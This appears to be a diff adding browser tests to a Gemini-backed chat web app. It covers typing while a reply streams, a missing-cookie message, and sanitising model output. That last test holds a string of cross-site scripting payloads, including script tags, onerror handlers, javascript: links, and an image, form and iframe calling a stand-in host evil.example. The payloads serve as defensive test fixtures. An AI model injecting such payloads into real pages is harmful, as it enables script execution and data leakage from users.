@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import re
 import time
 from collections.abc import Callable
 from pathlib import Path
@@ -36,6 +37,56 @@ async def test_an_answer_grows_before_it_is_whole(visit: Visit, keyed: Server, g
     await expect(face.last).to_have_text("The moon is far, but near enough.")
     await face.idle()
     await expect(face.box).to_have_value("")
+
+
+async def test_what_is_written_meanwhile_stays(visit: Visit, keyed: Server, gemini: Gemini) -> None:
+    face, gate = await visit(keyed), Gate()
+    gemini.script(says("Once ", "upon.").held(gate))
+    await face.say("tell me a story")
+    await expect(face.last).to_contain_text("Once")
+    await face.say("and then?")
+    await expect(face.box).to_have_value("and then?")
+    gate.open()
+    await face.idle()
+    await expect(face.questions).to_have_text(["tell me a story"])
+    await expect(face.box).to_have_value("and then?")
+    await face.box.press("Enter")
+    await expect(face.questions).to_have_text(["tell me a story", "and then?"])
+    await face.idle()
+
+
+NASTY = """<img src=x onerror="window.pwned=1"><script>window.pwned=1</script> [a](javascript:window.pwned=1)
+![](https://evil.example/?d=1) <form action="https://evil.example/"><button id="evil">go</button></form>
+<iframe src="https://evil.example"></iframe>"""
+
+
+async def test_what_a_model_writes_runs_nothing_and_calls_nobody(
+    visit: Visit, keyed: Server, gemini: Gemini
+) -> None:
+    face = await visit(keyed, watched=False)
+    refused: dict[str, str | None] = {}
+    face.page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
+    gone: list[str] = []
+    face.page.on("requestfinished", lambda request: gone.append(request.url))
+    gemini.script(says(NASTY))
+    await face.tell("hi")
+    await expect(face.last.locator("a")).not_to_have_attribute("href", re.compile("javascript"))
+    await expect(face.last.locator("script, iframe, [onerror]")).to_have_count(0)
+    script = "document.querySelector('#evil').click(), [window.pwned, location.href]"
+    assert await face.page.evaluate(script) == [None, f"{keyed.url}/"]
+    assert refused["https://evil.example/?d=1"] == "csp"
+    assert [url for url in gone if not url.startswith(keyed.url)] == []
+
+
+async def test_a_page_without_its_cookie_says_what_to_do(visit: Visit, plain: Server) -> None:
+    face = await visit(plain, "pt-BR")
+    await face.page.context.clear_cookies()
+    await face.say("oi")
+    await expect(face.page.get_by_test_id("toast-body")).to_contain_text(face.words["page.no_cookie"])
+    await expect(face.box).to_have_value("oi")
+    await face.page.reload()
+    await face.ready()
+    await face.tell("oi")
 
 
 async def test_stop_ends_the_work_and_keeps_the_words(
